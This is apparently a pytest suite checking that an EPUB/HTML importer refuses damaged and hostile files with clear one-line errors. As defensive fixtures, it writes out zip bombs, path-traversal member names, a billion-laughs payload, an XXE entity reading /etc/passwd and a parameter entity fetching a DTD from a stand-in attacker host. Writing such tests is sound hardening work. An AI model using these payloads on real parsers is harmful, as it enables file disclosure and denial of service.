"""Hostile and broken manuscripts (issue 13, item 8): every one is a one-line ``SourceFileError`` naming the
file and what is wrong, never a traceback from zipfile, zlib or lxml, and nothing is read that should
not be (no entity expanded, no file outside the archive or on the network touched)."""

from __future__ import annotations

import struct
import warnings
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from import_books import EpubSpec, Page, Piece, epub_members, write_zip

from pipeline.errors import SourceFileError
from pipeline.importer import epub, html
from pipeline.importer.archive import MAX_TOTAL_BYTES, open_zip, parse_xml, unsafe_member_name
from pipeline.importer.model import ReadOptions, SourceBook

OPTIONS = ReadOptions()
SPEC = EpubSpec(pages=(Page("a.xhtml", (Piece("<h1>Alpha</h1>\n<p>First text.</p>", toc="Alpha"),)),
                       Page("b.xhtml", (Piece("<h1>Beta</h1>\n<p>Second text.</p>", toc="Beta"),))))


def members() -> dict[str, bytes]:
    return epub_members(SPEC)


def refused(path: Path, pattern: str) -> str:
    with pytest.raises(SourceFileError) as caught:
        epub.read(path, OPTIONS)
    message = str(caught.value)
    assert message.startswith(f"{path}: "), message
    assert "\n" not in message, message
    assert pattern in message, message
    return message


def test_the_fixture_itself_reads(tmp_path: Path) -> None:
    book = epub.read(write_zip(tmp_path / "ok.epub", members()), OPTIONS)
    assert [part.title for part in book.parts] == ["Alpha", "Beta"]


# --- not an archive, damaged archives ------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"Just some text pretending to be a book.\n", b"%PDF-1.4\n"])
def test_not_a_zip_with_an_epub_name(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "book.epub"
    path.write_bytes(content)
    refused(path, "is not a ZIP archive, as a .epub file must be (was it renamed from another format?)")


@pytest.mark.parametrize("keep", [0.5, 0.9, 0.99])
def test_a_truncated_archive(tmp_path: Path, keep: float) -> None:
    data = write_zip(tmp_path / "whole.epub", members()).read_bytes()
    path = tmp_path / "cut.epub"
    path.write_bytes(data[: int(len(data) * keep)])
    refused(path, "is a truncated or damaged ZIP archive (its table of contents is missing or unreadable)")


def test_damaged_member_data(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "bad.epub", members())
    data = bytearray(path.read_bytes())
    start = data.index(b"OEBPS/content.opf") + len("OEBPS/content.opf")  # the OPF's compressed bytes follow
    for offset in range(start + 10, start + 40):
        data[offset] ^= 0x55
    path.write_bytes(bytes(data))
    refused(path, "member 'OEBPS/content.opf' cannot be read")


def test_missing_file_and_folder(tmp_path: Path) -> None:
    refused(tmp_path / "nope.epub", "does not exist")
    (tmp_path / "dir.epub").mkdir()
    refused(tmp_path / "dir.epub", "is a folder")


def test_a_docx_renamed_epub(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "report.epub", {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    refused(path, "is a Word document (DOCX), not an EPUB; rename it to .docx")


def test_a_zip_of_something_else(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "photos.epub", {"holiday.jpg": b"\xff\xd8\xff"})
    refused(path, "is a ZIP archive but not an EPUB (it has no META-INF/container.xml)")


@pytest.mark.parametrize("change, message", [
    (lambda m: m.pop("OEBPS/content.opf"), "names the package 'OEBPS/content.opf', which is not in the archive"),
    (lambda m: m.update({"META-INF/container.xml": b"<container/>"}), "names no package document"),
    (lambda m: m.update({"META-INF/container.xml": b"<container"}), "META-INF/container.xml is not well-formed XML"),
    (lambda m: m.update({"OEBPS/content.opf": b"<package><metadata>"}), "OEBPS/content.opf is not well-formed XML"),
    (lambda m: m.update({"OEBPS/content.opf": b"<html/>"}), "OEBPS/content.opf is not an OPF package document"),
    (lambda m: m.update({"OEBPS/content.opf": b'<package xmlns="http://www.idpf.org/2007/opf"><manifest/></package>'}),
     "has no <spine>"),
    (lambda m: m.update({"OEBPS/content.opf": b'<package xmlns="http://www.idpf.org/2007/opf"><spine/></package>'}),
     "has an empty spine"),
    (lambda m: m.update({"OEBPS/toc.ncx": b"<ncx><navMap>"}), "OEBPS/toc.ncx is not well-formed XML"),  # no nav
])
def test_a_damaged_package(tmp_path: Path, change, message: str) -> None:  # type: ignore[no-untyped-def]
    content = members()
    if "ncx" in message:
        content = epub_members(EpubSpec(pages=SPEC.pages, nav=False))
    change(content)
    refused(write_zip(tmp_path / "damaged.epub", content), message)


# --- zip bombs -----------------------------------------------------------------------------------------


def test_a_member_compressed_absurdly_is_a_zip_bomb(tmp_path: Path) -> None:
    content = members()
    content["OEBPS/text/bomb.xhtml"] = b"\0" * 20_000_000  # deflates ~1000:1
    path = write_zip(tmp_path / "bomb.epub", content)
    refused(path, "member 'OEBPS/text/bomb.xhtml' is compressed 1,0")
    refused(path, "to 1 (a zip bomb?); refused")


def _patch_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size the central directory declares for member ``name``."""
    raw = bytearray(data)
    encoded = name.encode()
    at = raw.index(b"PK\x01\x02")  # the central directory's first entry
    while at >= 0:
        length = struct.unpack_from("<H", raw, at + 28)[0]
        if bytes(raw[at + 46: at + 46 + length]) == encoded:
            struct.pack_into("<I", raw, at + 24, size)
            return bytes(raw)
        at = raw.find(b"PK\x01\x02", at + 4)
    raise AssertionError(name)


def test_a_total_size_over_the_limit_is_refused_from_the_headers(tmp_path: Path) -> None:
    data = write_zip(tmp_path / "ok.epub", members()).read_bytes()
    path = tmp_path / "huge.epub"
    path.write_bytes(_patch_declared_size(data, "OEBPS/text/a.xhtml", MAX_TOTAL_BYTES + 1))
    refused(path, f"would unpack to more than {MAX_TOTAL_BYTES:,} bytes (a zip bomb?); refused")


def test_a_member_that_lies_about_its_size_is_refused_when_read(tmp_path: Path) -> None:
    data = write_zip(tmp_path / "ok.epub", members()).read_bytes()
    path = tmp_path / "liar.epub"
    path.write_bytes(_patch_declared_size(data, "OEBPS/text/a.xhtml", 40))  # it inflates to more
    refused(path, "member 'OEBPS/text/a.xhtml' cannot be read")


def test_reading_stops_at_the_budget_whatever_the_headers_say(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "x.zip", {"a.txt": b"a" * 1000, "b.txt": b"b" * 1000})
    with open_zip(path, max_total_bytes=2500) as archive:
        assert archive.read("a.txt") == b"a" * 1000
        assert archive.read("b.txt") == b"b" * 1000
        with pytest.raises(SourceFileError, match=r"x.zip: member 'a.txt' inflates past its declared size or the"):
            archive.read("a.txt")  # a third read goes over the 2,500 bytes this archive may give
    with pytest.raises(SourceFileError, match=r"would unpack to more than 1,500 bytes"):
        open_zip(path, max_total_bytes=1500)
    with open_zip(path) as archive, pytest.raises(SourceFileError, match=r"has no member 'c.txt'"):
        archive.read("c.txt")


# --- member names --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name, why", [
    ("../evil.xhtml", "climbs out of its folder with '..'"),
    ("OEBPS/../../evil.xhtml", "climbs out of its folder with '..'"),
    ("/etc/passwd", "is an absolute path"),
    ("\\windows\\evil.xhtml", "is an absolute path"),
    ("C:/evil.xhtml", "starts with a drive letter"),
    ("..\\..\\evil.xhtml", "contains a backslash"),
])
def test_unsafe_member_names(tmp_path: Path, name: str, why: str) -> None:
    content = {**members(), name: b"x"}
    path = write_zip(tmp_path / "names.epub", content)
    refused(path, f"has a member named {name!r}, which {why}; refused (a crafted archive?)")


def test_a_nul_in_a_member_name(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "nul.epub", {**members(), "OEBPS/evilX.xhtml": b"x"})
    path.write_bytes(path.read_bytes().replace(b"evilX", b"evil\0"))
    refused(path, "has a member named 'OEBPS/evil\\x00.xhtml', which contains a NUL byte")


def test_unsafe_member_name_accepts_ordinary_names() -> None:
    for name in ("mimetype", "OEBPS/text/ch 1.xhtml", "a/b/c..d.xhtml", "été/x.xhtml", "..hidden"):
        assert unsafe_member_name(name) is None, name


def test_duplicate_member_names(tmp_path: Path) -> None:
    path = tmp_path / "dup.epub"
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is asked to write
        for name, data in members().items():
            archive.writestr(name, data)
        archive.writestr("OEBPS/text/a.xhtml", b"<html/>")
    refused(path, "has two members named 'OEBPS/text/a.xhtml'")


def test_an_encrypted_member(tmp_path: Path) -> None:
    data = bytearray(write_zip(tmp_path / "ok.epub", members()).read_bytes())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 0x01  # general purpose flag: encrypted
        at = data.find(b"PK\x01\x02", at + 4)
    path = tmp_path / "drm.epub"
    path.write_bytes(bytes(data))
    refused(path, "is encrypted; remove the password protection (DRM) and try again")


# --- XML entities --------------------------------------------------------------------------------------

LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
XXE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>'


def _with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
    text = xml.decode()
    head, sep, rest = text.partition("?>")
    body = rest.replace("</p>", f"{reference}</p>", 1) if "</p>" in rest else rest
    return (head + sep + "\n" + doctype + body).encode()


@pytest.mark.parametrize("member", ["META-INF/container.xml", "OEBPS/content.opf", "OEBPS/nav.xhtml",
                                    "OEBPS/toc.ncx", "OEBPS/text/a.xhtml"])
@pytest.mark.parametrize("doctype, reference", [(LAUGHS, "&lol3;"), (XXE, "&secret;"), (PARAMETER, "")])
def test_entity_declarations_are_refused(tmp_path: Path, member: str, doctype: str, reference: str) -> None:
    content = epub_members(EpubSpec(pages=SPEC.pages, nav=False)) if member.endswith(".ncx") else members()
    content[member] = _with_doctype(content[member], doctype, reference)
    refused(write_zip(tmp_path / "entities.epub", content),
            f"{member} declares XML entities (<!ENTITY>), which a book never needs")


def test_entity_declarations_in_utf16_are_refused(tmp_path: Path) -> None:
    content = members()
    text = _with_doctype(content["OEBPS/text/a.xhtml"], XXE, "&secret;").decode()
    content["OEBPS/text/a.xhtml"] = text.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")
    refused(write_zip(tmp_path / "utf16.epub", content), "OEBPS/text/a.xhtml declares XML entities")


def test_entity_declarations_in_utf32_are_refused_after_parsing() -> None:
    data = ('<?xml version="1.0" encoding="UTF-32"?>' + XXE + "<x>&secret;</x>").encode("utf-32")
    with pytest.raises(SourceFileError, match=r"^b.epub: OEBPS/x.xml declares XML entities \(<!ENTITY>\); refused$"):
        parse_xml(data, source="b.epub", member="OEBPS/x.xml")


def test_an_external_dtd_is_not_loaded(tmp_path: Path) -> None:
    content = members()
    content["OEBPS/text/a.xhtml"] = _with_doctype(content["OEBPS/text/a.xhtml"],
                                                  '<!DOCTYPE html SYSTEM "http://attacker.invalid/x.dtd">', "")
    book = epub.read(write_zip(tmp_path / "dtd.epub", content), OPTIONS)
    assert book.parts[0].markdown == "# Alpha\n\nFirst text.\n"


def test_crafted_nesting_is_refused(tmp_path: Path) -> None:
    content = members()
    content["OEBPS/text/a.xhtml"] = content["OEBPS/text/a.xhtml"].replace(
        b"<p>First text.</p>", b"<div>" * 400 + b"<p>First text.</p>" + b"</div>" * 400)
    refused(write_zip(tmp_path / "deep.epub", content), "OEBPS/text/a.xhtml is not well-formed XML (Excessive depth")


def test_html_with_entity_declarations_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "laughs.html"
    path.write_text(LAUGHS + "<html><body><p>&lol3;</p></body></html>")
    with pytest.raises(SourceFileError, match=r"laughs.html: declares entities \(<!ENTITY>\)"):
        html.read(path, OPTIONS)


# --- HTML encodings ------------------------------------------------------------------------------------


def test_non_utf8_html_with_a_declared_charset_is_read(tmp_path: Path) -> None:
    path = tmp_path / "cp1252.html"
    text = '<meta charset="windows-1252"><h1>Caf\u00e9</h1><p>\u201cYes,\u201d she said.</p>'
    path.write_bytes(text.encode("cp1252"))
    assert html.read(path, OPTIONS).parts[0].markdown == "# Café\n\n“Yes,” she said.\n"


def test_html_with_undeclared_invalid_bytes_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "mystery.html"
    path.write_bytes(b"<h1>Caf\xe9</h1>")
    with pytest.raises(SourceFileError) as caught:
        html.read(path, OPTIONS)
    assert str(caught.value).startswith(f"{path}: is not UTF-8 (byte 0xe9 on line 1) and declares no charset")


# --- every foreign exception is mapped --------------------------------------------------------------------


def _read_or_refuse(path: Path, reader=epub.read) -> SourceBook | None:  # type: ignore[no-untyped-def]
    """Read ``path``; a SourceFileError is a fine answer, anything else fails the test."""
    try:
        return reader(path, OPTIONS)  # type: ignore[no-any-return]
    except SourceFileError as exc:
        assert "\n" not in str(exc) and str(exc).startswith(f"{path}: ")
        return None


def test_every_truncation_of_an_epub_is_read_or_refused(tmp_path: Path) -> None:
    data = write_zip(tmp_path / "ok.epub", members()).read_bytes()
    path = tmp_path / "cut.epub"
    for length in range(0, len(data), max(1, len(data) // 60)):
        path.write_bytes(data[:length])
        _read_or_refuse(path)


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), min_size=1, max_size=8))
def test_corrupted_archive_bytes_are_read_or_refused(tmp_path: Path, flips: list[tuple[float, int]]) -> None:
    data = bytearray((tmp_path / "base.epub").read_bytes() if (tmp_path / "base.epub").exists()
                     else write_zip(tmp_path / "base.epub", members()).read_bytes())
    for where, value in flips:
        data[int(where * len(data))] = value
    path = tmp_path / "flipped.epub"
    path.write_bytes(bytes(data))
    _read_or_refuse(path)


MEMBERS = ["META-INF/container.xml", "OEBPS/content.opf", "OEBPS/nav.xhtml", "OEBPS/text/a.xhtml"]


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(MEMBERS), st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.binary(max_size=3)),
                                          min_size=1, max_size=6))
def test_corrupted_xml_members_are_read_or_refused(tmp_path: Path, member: str,
                                                   edits: list[tuple[float, bytes]]) -> None:
    content = members()
    data = content[member]
    for where, replacement in edits:
        at = int(where * len(data))
        data = data[:at] + replacement + data[at + 1:]
    content[member] = data
    _read_or_refuse(write_zip(tmp_path / "xml.epub", content))


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=300) | st.text(max_size=200).map(lambda t: f"<html><p>{t}</p>".encode("utf-8", "replace")))
def test_any_bytes_as_html_are_read_or_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "any.html"
    path.write_bytes(data)
    _read_or_refuse(path, html.read)
